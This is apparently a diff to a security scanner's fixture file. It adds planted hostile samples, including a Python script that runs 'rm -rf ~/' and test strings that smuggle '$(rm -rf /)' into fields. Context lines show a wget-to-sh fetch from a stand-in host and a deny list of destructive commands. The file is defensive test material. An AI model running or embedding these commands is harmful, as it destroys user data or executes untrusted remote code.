@@ -356,6 +356,14 @@ PLANTED: dict[str, tuple[str, dict[str, str]]] = {
         "sec-remote-exec",
         _sh("setup.sh", "FETCH='wget -qO- https://get.example.net/i.sh'\n$FETCH | sh\n"),
     ),
+    "python-wrapper-runs-rm": (
+        "sec-destructive-shell",
+        _py(
+            "reset.py",
+            "import subprocess\n\n\ndef sh(command: str) -> None:\n    subprocess.run(command, shell=True, check=True)\n\n\n"
+            'def main() -> None:\n    sh("rm -rf ~/")\n\n\nif __name__ == "__main__":\n    main()\n',
+        ),
+    ),
     "held-list-os-system-rm-py": (
         "sec-destructive-shell",
         _py(
@@ -497,6 +505,19 @@ BENIGN: dict[str, dict[str, str]] = {
         'AUTH=$(jq -r \'"\\(.access_key):\\(.secret_key)"\' "$CREDS" | base64)\n'
         'curl -s "$BASE/v2/users" -H "Authorization: Basic $AUTH"\n',
     ),
+    "python-test-injection-strings": {
+        "scripts/test_triage.py": _PY.format(name="test_triage.py")
+        + "import unittest\n\nimport triage\n\n\nclass TestTitles(unittest.TestCase):\n"
+        "    def test_shell_injection_in_title(self) -> None:\n"
+        '        row = triage.score(title="$(rm -rf /)")\n'
+        '        self.assertEqual(row["title"], "$(rm -rf /)")\n\n'
+        "    def test_url_injection(self) -> None:\n"
+        '        self.assertIsInstance(triage.parse_repo("https://github.com/o/r; rm -rf /"), str)\n\n\n'
+        'if __name__ == "__main__":\n    unittest.main()\n',
+        "scripts/triage.py": _PY.format(name="triage.py")
+        + 'def score(title: str) -> dict[str, str]:\n    return {"title": title}\n\n\n'
+        "def parse_repo(url: str) -> str:\n    return url.rsplit('/', 1)[-1]\n",
+    },
     "held-detection-list-sh": _sh(
         "guard.sh",
         'DANGEROUS=("rm -rf /" "rm -rf ~/" "mkfs")\nfor p in "${DANGEROUS[@]}"; do\n'
